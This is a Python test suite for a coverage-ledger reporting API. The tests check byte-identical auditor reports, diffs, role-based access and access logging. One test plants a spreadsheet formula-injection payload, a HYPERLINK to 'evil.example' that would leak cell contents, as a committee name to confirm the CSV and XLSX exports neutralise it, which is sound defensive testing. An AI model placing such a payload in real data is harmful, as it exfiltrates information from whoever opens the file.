"""Auditor reports: the same parameters give the same bytes after corrections, new enrolments, a
reversed claim and a replaced roster; the diff lists what changed; every request is logged."""

import csv
import hashlib
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from coverage_ledger import __version__
from coverage_ledger.ledger.rebuild import rebuild_check
from coverage_ledger.reports import content as report_content
from coverage_ledger.reports.service import Tally, counted
from tests.claims_support import append, approved, filed, paid, reversed_
from tests.rosters import Uploader, many_officers, roster_csv
from tests.support import Keys, append_in_savepoint, corrected, enrolled, enrolled_bpu, nik, registered
from tests.support import paid as contribution_paid

REPORTS = ("coverage-roster", "payouts", "coverage-ratios", "uploads", "overdue-claims")
FORMATS = ("json", "csv", "xlsx")


async def _pull(up: Uploader, name: str, fmt: str, params: dict[str, str]) -> tuple[bytes, dict[str, Any]]:
    headers = Keys.header(up.keys.auditor)
    query = params | {"format": fmt} | ({"region": "16.71"} if name == "coverage-ratios" else {})
    body = await up.client.get(f"/v1/reports/{name}", params=query, headers=headers)
    assert body.status_code == 200, (name, fmt, body.text)
    manifest = await up.client.get(f"/v1/reports/{name}/manifest", params=query, headers=headers)
    assert manifest.status_code == 200, manifest.text
    return body.content, manifest.json()


async def test_reports_are_byte_identical_later_and_the_diff_names_the_changes(uploader: Uploader) -> None:
    up = uploader
    rows = many_officers(6)
    people = [row[0] for row in rows]
    first = await up.run(roster_csv(rows))
    assert first["status"] == "succeeded", first
    await append(
        up.client,
        up.keys.office,
        filed("R-1", people[0], incident="2024-02-10", filed_on="2024-02-12"),
        approved("R-1", "2024-02-13"),
        paid("R-1", 42_000_000, "2024-02-14"),
        filed(
            "R-2",
            people[1],
            benefit="JKK_DEATH",
            incident="2024-02-11",
            wage=1_100_000,
            filed_on="2024-02-12",
        ),
        approved("R-2", "2024-02-13"),
        paid("R-2", 74_800_000, "2024-02-14"),
        filed("R-3", people[5], incident="2024-01-30", filed_on="2024-01-31", complete_on="2024-02-01"),
        approved("R-3", "2024-02-02"),
    )
    worker = nik()
    await append(
        up.client,
        up.keys.office,
        registered(worker),
        enrolled_bpu(worker, event_id="bpu-w", valid_from="2024-01-01"),
        contribution_paid(
            worker, event_id="pay-w", months=("2024-01", "2024-03"), amount=3 * 16_800, paid_on="2024-01-05"
        ),
    )
    t1 = await up.head()
    params = {"valid_at": "2024-02-14", "known_at": f"tx:{t1}"}
    before = {(name, fmt): await _pull(up, name, fmt, params) for name in REPORTS for fmt in FORMATS}
    for (name, fmt), (content, manifest) in before.items():
        assert hashlib.sha256(content).hexdigest() == manifest["sha256"], (name, fmt)
        assert manifest["as_of"]["tx_seq"] == t1 and manifest["ledger_head"]["tx_seq"] == t1
        assert manifest["ledger_head"]["hash"] and manifest["software_version"]
    roster = json.loads(before[("coverage-roster", "json")][0])
    assert roster["columns"][:3] == ["nik", "segment", "programs"]
    assert [r[0] for r in roster["rows"]] == sorted([*people, worker])
    officers = [r for r in roster["rows"] if r[0] != worker]
    assert {(r[1], r[6], r[7]) for r in officers} == {("officer", "KPPS", "KPU-16.71")}
    assert [r[1:] for r in roster["rows"] if r[0] == worker] == [
        ["informal", "JKK JKM", "2024-01-01", "2024-04-01", "16.71.01", None, None, "self"]
    ]
    assert before[("coverage-roster", "json")][1]["rows"] == 7
    payouts = list(csv.DictReader(io.StringIO(before[("payouts", "csv")][0].decode())))
    assert [(p["claim_id"], p["status"], p["paid_amount"]) for p in payouts] == [
        ("R-1", "paid", "42000000"),
        ("R-2", "paid", "74800000"),
        ("R-3", "approved", "0"),
    ]
    overdue = json.loads(before[("overdue-claims", "json")][0])["rows"]
    assert [(r[0], r[9], r[10]) for r in overdue] == [
        ("R-3", 8, 3_360_000)
    ]  # due 6 Feb, asked 14 Feb: 8 days late
    uploads = json.loads(before[("uploads", "json")][0])["rows"]
    assert [(u[0], u[8]) for u in uploads] == [(first["upload_id"], 6)]
    ratios = json.loads(before[("coverage-ratios", "json")][0])["rows"]
    assert ("16.71", "region", "officer", 6) in {(r[0], r[2], r[3], r[4]) for r in ratios}

    # what happens afterwards: a retraction, a late enrolment, a reversed claim, a replaced roster
    late = nik()
    await append(
        up.client,
        up.keys.office,
        registered(late),
        enrolled(
            late,
            event_id="late-ptps",
            role="PTPS",
            committee="Bawaslu-16.71",  # another body's roster: the KPU replacement leaves it alone
            valid_from="2024-01-25",
            valid_to="2024-02-24",
            registered_on="2024-01-20",
        ),
    )
    await append(up.client, up.keys.office, reversed_("R-2", "paid to a closed account"))
    await append(up.client, up.keys.office, corrected("fix-w", ["pay-w"], reason="the bank returned it"))
    replaced = await up.run(roster_csv([rows[0], rows[1], rows[4], rows[5]]), mode="replace_roster")
    assert replaced["status"] == "succeeded", replaced
    t2 = await up.head()
    assert t2 > t1

    for key, (content, manifest) in before.items():
        again, again_manifest = await _pull(up, *key, params)
        assert again == content, key
        assert again_manifest == manifest, key

    diff = await up.client.get(
        "/v1/reports/coverage-diff",
        params={"valid_at": "2024-02-14", "known_then": f"tx:{t1}", "known_now": f"tx:{t2}"},
        headers=Keys.header(up.keys.auditor),
    )
    assert diff.status_code == 200, diff.text
    changed = {r[0]: r for r in json.loads(diff.content)["rows"]}
    assert set(changed) == {people[2], people[3], late, worker}
    assert changed[worker][1] == "covered" and changed[worker][2] != "covered"
    assert any(change.endswith(":pay-w:contribution.paid:left") for change in changed[worker][5])
    assert changed[late][1:5] == ["unknown", "covered", None, "16.71.01"]
    assert changed[late][5] == [
        f"{t1 + 1}:late-ptps:officer.enrolled:entered",
        f"{t1 + 1}:reg-{late}:person.registered:entered",
    ]
    assert changed[people[2]][1:3] == ["covered", "not_enrolled"]
    assert f"upload:{replaced['upload_id']}" in changed[people[3]][6]
    assert any(":officer.enrolled:left" in change for change in changed[people[3]][5])

    log = (await up.client.get("/v1/reports/access-log", headers=Keys.header(up.keys.auditor))).json()[
        "items"
    ]
    assert log[0]["report"] == "coverage-diff"
    downloads = [e for e in log if e["report"] == "coverage-roster" and e["parameters"]["format"] == "csv"]
    assert len(downloads) == 2 and downloads[0]["content_sha256"] == downloads[1]["content_sha256"]
    assert downloads[0]["content_sha256"] == before[("coverage-roster", "csv")][1]["sha256"]
    # which code made the bytes (found by an upgrade probe: a release may change them)
    assert {e["software_version"] for e in log} == {__version__}


async def test_reports_are_for_auditors_admins_and_offices_within_their_region(uploader: Uploader) -> None:
    client, keys = uploader.client, uploader.keys
    for secret, region, status in (
        (keys.committee, None, 403),
        (keys.sponsor, None, 403),
        (keys.other_office, "16", 404),
        (keys.office, "16", 200),
        (keys.admin, None, 200),
    ):
        params = {"format": "csv"} | ({"region": region} if region else {})
        response = await client.get("/v1/reports/payouts", params=params, headers=Keys.header(secret))
        assert response.status_code == status, (secret, response.text)
    assert (await client.get("/v1/reports/nothing", headers=Keys.header(keys.auditor))).status_code == 404
    national = await client.get("/v1/reports/coverage-ratios", headers=Keys.header(keys.auditor))
    assert national.status_code == 422 and national.json()["errors"][0]["field"] == "region"
    assert (await client.get("/v1/reports/access-log", headers=Keys.header(keys.office))).status_code == 403
    refused = await client.post(
        "/v1/events", json={"events": [registered(nik())]}, headers=Keys.header(keys.auditor)
    )
    assert refused.status_code == 403


async def test_rebuild_check_reports_a_changed_enrolment_term(session: AsyncSession) -> None:
    person = nik()
    tx = await append_in_savepoint(
        session,
        [
            registered(person),
            enrolled(
                person,
                event_id="t-1",
                valid_from="2024-01-25",
                valid_to="2024-02-24",
                registered_on="2024-01-20",
            ),
        ],
    )
    assert tx is not None
    terms = (
        await session.execute(
            text("SELECT role, committee, programs FROM enrolment_term WHERE nik = :n"), {"n": person}
        )
    ).all()
    assert [tuple(t) for t in terms] == [("KPPS", "KPU-16.71", "JKK JKM")]
    assert await rebuild_check(session) == []
    await session.execute(text("UPDATE enrolment_term SET role = 'PPK' WHERE nik = :n"), {"n": person})
    assert any(d.startswith("enrolment_term has extra t-1") for d in await rebuild_check(session))


async def test_text_that_a_spreadsheet_would_run_stays_text(uploader: Uploader) -> None:
    """A committee named like a formula: quoted in CSV (written by PostgreSQL or by Python), and a
    string, not a formula, in XLSX."""
    person = nik()
    evil = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    await append(
        uploader.client,
        uploader.keys.admin,
        registered(person),
        enrolled(
            person,
            event_id=f"e-{person}",
            valid_from="2024-01-25",
            valid_to="2024-02-24",
            registered_on="2024-01-15",
            committee=evil,
        ),
    )
    params = {"valid_at": "2024-02-01", "format": "csv"}
    roster = await uploader.client.get(
        "/v1/reports/coverage-roster", params=params, headers=Keys.header(uploader.keys.auditor)
    )
    (row,) = [r for r in csv.DictReader(io.StringIO(roster.text)) if r["nik"] == person]
    assert row["committee"] == "'" + evil
    assert row["region_code"] == "16.71.01"  # other cells as they were
    xlsx = await uploader.client.get(
        "/v1/reports/coverage-roster",
        params=params | {"format": "xlsx"},
        headers=Keys.header(uploader.keys.auditor),
    )
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
        strings = (
            archive.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in archive.namelist() else b""
        )
    assert b"<f>" not in sheet
    assert b"HYPERLINK" in sheet + strings


async def test_the_diff_tells_an_event_that_came_and_went_between_the_two_moments(uploader: Uploader) -> None:
    person = nik()
    then = await append(uploader.client, uploader.keys.admin, registered(person))
    first, second = (
        enrolled(
            person,
            event_id=f"{tag}-{person}",
            valid_from=start,
            valid_to="2024-02-24",
            registered_on="2024-01-15",
        )
        for tag, start in (("a", "2024-01-25"), ("b", "2024-01-30"))
    )
    entered = await append(uploader.client, uploader.keys.admin, first)
    left = await append(uploader.client, uploader.keys.admin, corrected(f"x-{person}", [first["event_id"]]))
    again = await append(uploader.client, uploader.keys.admin, second)
    response = await uploader.client.get(
        "/v1/reports/coverage-diff",
        params={"valid_at": "2024-02-01", "known_then": f"tx:{then}", "format": "json"},
        headers=Keys.header(uploader.keys.auditor),
    )
    (row,) = [r for r in response.json()["rows"] if r[0] == person]
    assert row[1:3] == ["not_enrolled", "covered"]
    assert row[5] == [
        f"{entered}:a-{person}:officer.enrolled:entered",
        f"{left}:a-{person}:officer.enrolled:left",
        f"{again}:b-{person}:officer.enrolled:entered",
    ]


async def test_a_report_asked_for_a_moment_past_the_head_has_the_same_bytes_after_later_txs(
    uploader: Uploader,
) -> None:
    """The moment was past the head when asked: the answer was the head's, and so is the echo,
    so the report does not change when a later tx lands between the head and that moment."""
    up = uploader
    first = await up.run(roster_csv(many_officers(3)))
    assert first["status"] == "succeeded", first
    head = (await up.client.get("/v1/ledger/head", headers=Keys.header(up.keys.admin))).json()
    # one microsecond after the head: the next tx is stamped later than that
    stamp = datetime.fromisoformat(head["recorded_at"]) + timedelta(microseconds=1)
    moment = stamp.isoformat()
    params = {"valid_at": "2024-02-14", "known_at": moment}
    before = {fmt: await _pull(up, "coverage-roster", fmt, params) for fmt in FORMATS}
    person = nik()
    await append(up.client, up.keys.admin, registered(person))
    after = {fmt: await _pull(up, "coverage-roster", fmt, params) for fmt in FORMATS}
    for fmt in FORMATS:
        assert after[fmt][0] == before[fmt][0], fmt
        assert (
            after[fmt][1]["sha256"] == before[fmt][1]["sha256"] == hashlib.sha256(before[fmt][0]).hexdigest()
        )


async def test_the_diff_of_a_region_says_a_person_went_elsewhere_but_not_where(uploader: Uploader) -> None:
    person = nik()
    here = enrolled(
        person,
        event_id=f"here-{person}",
        valid_from="2024-01-25",
        valid_to="2024-02-24",
        registered_on="2024-01-15",
    )
    await append(uploader.client, uploader.keys.admin, registered(person), here)
    then = await uploader.head()
    moved = enrolled(
        person,
        event_id=f"there-{person}",
        valid_from="2024-01-25",
        valid_to="2024-02-24",
        region="16.04.01",
        committee="KPU-16.04",
        registered_on="2024-01-15",
    )
    await append(
        uploader.client,
        uploader.keys.admin,
        corrected(f"move-{person}", [here["event_id"]], replacement=moved),
    )
    response = await uploader.client.get(
        "/v1/reports/coverage-diff",
        params={"valid_at": "2024-02-01", "known_then": f"tx:{then}", "region": "16.71", "format": "json"},
        headers=Keys.header(uploader.keys.office),
    )
    (row,) = [r for r in response.json()["rows"] if r[0] == person]
    assert row[1:5] == ["covered", "outside_region", "16.71.01", None]
    assert not any(f"there-{person}" in change for change in row[5]), row  # the other region's event
    assert any(f"here-{person}:officer.enrolled:left" in change for change in row[5]), row


async def test_a_pinned_coverage_diff_has_a_manifest_that_still_holds_after_later_txs(
    uploader: Uploader,
) -> None:
    """An auditor files the diff with its manifest: the bytes' sha256, both moments and the
    ledger head's hash at `known_now`, and the same manifest and bytes later."""
    up = uploader
    then = await up.head()
    first = await up.run(roster_csv(many_officers(3)))
    assert first["status"] == "succeeded", first
    now = await up.head()
    params = {"valid_at": "2024-02-14", "known_then": f"tx:{then}", "known_now": f"tx:{now}"}
    headers = Keys.header(up.keys.auditor)

    async def pull(fmt: str) -> tuple[bytes, str, dict[str, Any]]:
        body = await up.client.get(
            "/v1/reports/coverage-diff", params=params | {"format": fmt}, headers=headers
        )
        assert body.status_code == 200, body.text
        manifest = await up.client.get(
            "/v1/reports/coverage-diff/manifest", params=params | {"format": fmt}, headers=headers
        )
        assert manifest.status_code == 200, manifest.text
        return body.content, body.headers["content-disposition"], manifest.json()

    before = {fmt: await pull(fmt) for fmt in ("json", "csv")}
    head = (await up.client.get("/v1/ledger/head", headers=Keys.header(up.keys.admin))).json()
    for fmt, (content, disposition, manifest) in before.items():
        assert manifest["sha256"] == hashlib.sha256(content).hexdigest(), fmt
        assert manifest["rows"] == 3 and manifest["format"] == fmt and manifest["report"] == "coverage-diff"
        assert (manifest["known_then"]["tx_seq"], manifest["known_now"]["tx_seq"]) == (then, now)
        assert manifest["ledger_head"]["tx_seq"] == now == head["tx_seq"]
        assert manifest["ledger_head"]["hash"] == head["hash"] and manifest["software_version"]
        assert (
            disposition == f'attachment; filename="coverage-diff_national_2024-02-14_tx{then}-tx{now}.{fmt}"'
        )
    person = nik()
    late = enrolled(
        person,
        event_id=f"late-{person}",
        valid_from="2024-02-01",
        valid_to="2024-02-24",
        registered_on="2024-01-15",
    )
    await append(up.client, up.keys.admin, registered(person), late)
    assert await up.head() > now
    assert {fmt: await pull(fmt) for fmt in ("json", "csv")} == before
    log = (await up.client.get("/v1/reports/access-log", headers=headers)).json()["items"]
    # an instant is written one way in every response: UTC with microseconds and Z
    instant = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
    assert all(instant.fullmatch(e["requested_at"]) for e in log), log[0]
    manifests = [e for e in log if e["report"] == "coverage-diff/manifest"]
    assert len(manifests) == 4 and {e["content_sha256"] for e in manifests} == {
        m["sha256"] for _, _, m in before.values()
    }


async def test_a_roster_row_of_two_terms_starting_the_same_day_keeps_its_bytes_after_a_correction(
    uploader: Uploader,
) -> None:
    """Two terms of one officer begin the same day (a JKK term and a JKM term, different roles):
    the row names one of them, by event id, and a later correction of that term, which moves its
    row on disk, changes nothing at the tx asked (found by an auditor's probe: the row named the
    other term's role and committee afterwards)."""
    up = uploader
    person = nik()
    term = {"valid_from": "2024-01-25", "valid_to": "2024-02-24", "registered_on": "2024-01-20"}
    await append(
        up.client,
        up.keys.admin,
        registered(person),
        enrolled(person, event_id="tie-a", role="KPPS", committee="KPU-16.71", programs=["JKK"], **term),
        enrolled(person, event_id="tie-b", role="PTPS", committee="Bawaslu-16.71", programs=["JKM"], **term),
    )
    params = {"valid_at": "2024-02-14", "known_at": f"tx:{await up.head()}", "region": "16.71"}
    before = await _pull(up, "coverage-roster", "csv", params)
    [row] = [r for r in csv.reader(io.StringIO(before[0].decode("utf-8-sig"))) if r[0] == person]
    assert "KPPS" in row and "KPU-16.71" in row and "PTPS" not in row
    replacement = enrolled(person, event_id="tie-a2", role="KPPS", programs=["JKK"], **term)
    await append(up.client, up.keys.admin, corrected("fix-tie-a", ["tie-a"], replacement=replacement))
    after = await _pull(up, "coverage-roster", "csv", params)
    assert after[0] == before[0]
    assert after[1]["sha256"] == before[1]["sha256"]


async def test_a_workbook_cut_at_the_row_limit_counts_the_rows_it_holds(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Found by a reports probe: the row read only to find the sheet full was counted, so a cut
    workbook's manifest said one row more than the file held; CSV counts every row."""
    monkeypatch.setattr(report_content, "XLSX_MAX_ROWS", 3)

    async def rows() -> AsyncIterator[tuple[str, int]]:
        for i in range(5):
            yield (f"16710100000000{i:02d}", i)

    in_csv, in_xlsx = Tally(), Tally()
    assert [
        chunk async for chunk in report_content.csv_chunks(("nik", "n"), counted(rows=rows(), tally=in_csv))
    ]
    workbook = b"".join(
        [c async for c in report_content.xlsx_chunks("r", ("nik", "n"), counted(rows=rows(), tally=in_xlsx))]
    )
    assert (in_csv.rows, in_xlsx.rows) == (5, 3)
    sheet = zipfile.ZipFile(io.BytesIO(workbook)).read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<row ") == 1 + 3 + 1  # the header, three rows, the note that it was cut
